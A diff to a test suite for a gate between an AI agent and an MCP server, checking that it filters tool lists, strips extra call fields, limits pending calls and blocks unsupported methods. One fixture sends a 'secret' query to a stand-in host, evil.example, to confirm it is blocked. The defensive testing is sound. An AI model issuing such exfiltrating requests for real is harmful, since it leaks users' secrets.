@@ -52,7 +52,7 @@ describe('the gate between an agent and an MCP server', () => {
 		ask = async () => undefined;
 		admit = async tools => tools;
 		ended = runGate(agent, server, {
-			admit: tools => admit(tools),
+			admit: (tools, isFurther) => admit(tools, isFurther),
 			ask: (call, signal) => {
 				asked.push(call);
 				return ask(call, signal);
@@ -97,6 +97,68 @@ describe('the gate between an agent and an MCP server', () => {
 		assert.deepEqual(asked, [{ tool: 'add', arguments: { a: 1 } }]);
 		assert.deepEqual(answered, [{ call: asked[0], answer: { isError: false, text: '3' } }]);
 		assert.equal(answered[0]?.call, asked[0]);
+	});
+
+	it('passes on nothing of a call but what was asked about, and the token of its progress', async () => {
+		await listTools();
+		const params = { name: 'add', arguments: { a: 1 }, _meta: { progressToken: 7, more: 'x' }, task: { ttl: 1 } };
+		agent.say({ id: 2, method: 'tools/call', further: 'x', params });
+		const [, passed] = await server.told(2);
+		const shown = { name: 'add', arguments: { a: 1 }, _meta: { progressToken: 7 } };
+		assert.deepEqual(passed, { jsonrpc: '2.0', id: 2, method: 'tools/call', params: shown });
+		agent.say({ method: 'notifications/cancelled', params: { requestId: 2, reason: 'x' } });
+		agent.say({ method: 'notifications/cancelled', params: { requestId: 'none' } });
+		agent.say({ method: 'notifications/initialized', params: { more: 'x' } });
+		assert.deepEqual((await server.told(4)).slice(2), [
+			{ jsonrpc: '2.0', method: 'notifications/cancelled', params: { requestId: 2 } },
+			{ jsonrpc: '2.0', method: 'notifications/initialized' },
+		]);
+	});
+
+	it('admits one tool of each name, and none whose name cannot be shown', async () => {
+		let offered: readonly unknown[] = [];
+		admit = async tools => {
+			offered = tools;
+			return tools;
+		};
+		agent.say({ id: 'list', method: 'tools/list' });
+		await server.told(1);
+		const names = ['two\nlines', 'hid\u200bden', 'x'.repeat(129), ''];
+		const tools = [{ name: 'add' }, { name: 'add', description: 'Lies.' }, ...names.map(name => ({ name }))];
+		server.say({ id: 'list', result: { tools } });
+		const [list] = await agent.told(1);
+		assert.deepEqual(member(list, 'result')['tools'], [{ name: 'add' }]);
+		assert.deepEqual(offered, [{ name: 'add' }]);
+	});
+
+	it('refuses a tool that was known, once it is not admitted as it is described now', async () => {
+		await listTools();
+		admit = async tools => tools.filter(({ name }) => name !== 'add');
+		agent.say({ id: 'again', method: 'tools/list' });
+		await server.told(2);
+		server.say({ id: 'again', result: { tools: [{ name: 'add', description: 'Sends.' }, { name: 'send' }] } });
+		await agent.told(2);
+		agent.say(call(2, 'add', {}), call(3, 'send', {}));
+		assert.equal((await server.told(3))[2]?.['id'], 3);
+		assert.equal(textOf((await agent.told(3))[2] ?? {}), 'There is no such tool.');
+	});
+
+	it('promises the agent nothing of a server but its tools', async () => {
+		agent.say({ id: 1, method: 'initialize', params: {} });
+		await server.told(1);
+		const capabilities = { tools: { listChanged: true }, resources: {}, prompts: {}, completions: {} };
+		server.say({ id: 1, result: { protocolVersion: '2025-11-25', capabilities } });
+		const [answer] = await agent.told(1);
+		assert.deepEqual(member(member(answer, 'result'), 'capabilities'), { tools: { listChanged: true } });
+	});
+
+	it('lets no more than 256 calls wait for an answer', async () => {
+		ask = () => new Promise(() => {});
+		await listTools();
+		agent.say(...Array.from({ length: 257 }, (_, id) => call(id, 'add', {})));
+		const [, answer] = await agent.told(2);
+		assert.equal(member(answer, 'error')['code'], -32_600);
+		assert.equal(asked.length, 256);
 	});
 
 	it('answers a call that is refused itself, and never passes it on', async () => {
@@ -168,9 +230,12 @@ describe('the gate between an agent and an MCP server', () => {
 		agent.say(
 			{ id: 1, method: 'server/discover' },
 			{ id: 2, method: 'tasks/list' },
+			{ id: 3, method: 'resources/read', params: { uri: 'https://evil.example/?the=secret' } },
+			{ id: 4, method: 'prompts/get', params: { name: 'x', arguments: { the: 'secret' } } },
+			{ id: 5, method: 'completion/complete', params: { argument: { name: 'x', value: 'secret' } } },
 			{ method: 'notifications/roots/list_changed' },
 		);
-		const answers = await agent.told(2);
+		const answers = await agent.told(5);
 		assert.ok(answers.every(({ error }) => (error as Message)['code'] === -32_601));
 		assert.deepEqual(server.got, []);
 	});
@@ -207,8 +272,8 @@ describe('the gate between an agent and an MCP server', () => {
 	it('goes on with other messages while a question waits', async () => {
 		ask = () => new Promise(() => {});
 		await listTools();
-		agent.say(call(2, 'add', {}), { id: 3, method: 'resources/list' });
-		assert.equal((await server.told(2))[1]?.['method'], 'resources/list');
+		agent.say(call(2, 'add', {}), { id: 3, method: 'ping' });
+		assert.equal((await server.told(2))[1]?.['method'], 'ping');
 	});
 
 	it('refuses a second request with the id of an open one', async () => {
